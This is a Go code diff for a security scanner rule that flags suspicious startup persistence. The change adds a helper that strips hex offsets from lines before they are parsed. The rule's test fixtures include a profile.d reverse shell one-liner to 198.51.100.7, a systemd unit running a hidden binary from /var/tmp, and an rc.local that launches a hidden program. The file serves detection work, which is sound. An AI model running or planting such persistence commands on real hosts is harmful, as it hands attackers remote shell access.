@@ -675,7 +675,7 @@ func (c *startupChecker) Record(r *timeline.Record) {
 	for n := 0; len(text) > 0 && n < 4096; n++ {
 		line, rest, _ := strings.Cut(text, "\n")
 		text = rest
-		line = strings.TrimSpace(line)
+		line = strings.TrimSpace(withoutOffset(line))
 		if unit {
 			k, v, ok := strings.Cut(line, "=")
 			if !ok || !strings.HasPrefix(k, "Exec") && k != "Environment" {
@@ -727,6 +727,19 @@ func (c *startupChecker) Record(r *timeline.Record) {
 	}
 }
 
+// withoutOffset removes the place of a string, "0x1f40 ", from before it.
+func withoutOffset(line string) string {
+	rest, ok := strings.CutPrefix(line, "0x")
+	if !ok {
+		return line
+	}
+	digits, text, ok := strings.Cut(rest, " ")
+	if !ok || digits == "" || strings.Trim(digits, "0123456789abcdef") != "" {
+		return line
+	}
+	return text
+}
+
 func (c *startupChecker) Findings() []rules.Finding { return c.groups.Findings(nil) }
 
 var startupSuspicious = &rules.Rule{
@@ -742,7 +755,7 @@ Innocent: none that is usual.`,
 	True: []rules.Example{
 		one("unit", rules.High, someStrings("/etc/systemd/system/upd.service", "[Service]\nExecStart=-/var/tmp/.x/upd --daemon\nRestart=always", magic("text"))),
 		one("profile", rules.Critical, someStrings("/etc/profile.d/x.sh", "nohup bash -i >& /dev/tcp/198.51.100.7/443 0>&1 &", magic("text"))),
-		one("hidden", rules.High, someStrings("/etc/rc.local", "#!/bin/sh\n/usr/lib/.k/start &\nexit 0", magic("script"))),
+		one("hidden", rules.High, someStrings("/etc/rc.local", "0x0 #!/bin/sh\n0xa /usr/lib/.k/start &\n0x1d exit 0", magic("script"))),
 	},
 	False: []rules.Example{
 		quiet("unit", someStrings("/etc/systemd/system/app.service", "[Service]\nExecStart=/opt/app/bin/app --tmp /tmp/app\nEnvironment=LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2", magic("text"))),
